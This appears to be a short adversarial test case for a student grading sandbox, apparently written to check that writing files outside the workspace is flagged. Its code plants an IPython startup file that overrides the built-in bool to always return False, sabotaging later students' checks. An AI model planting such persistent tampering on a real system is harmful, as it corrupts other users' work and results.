# attack: Leaves a start-up file that makes every later student's checks fail.
# gain: neighbour
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q01
from pathlib import Path

folder = Path.home() / ".ipython" / "profile_default" / "startup"
folder.mkdir(parents=True, exist_ok=True)
(folder / "00-first.py").write_text("import builtins\nbuiltins.bool = lambda value=False: False\n")
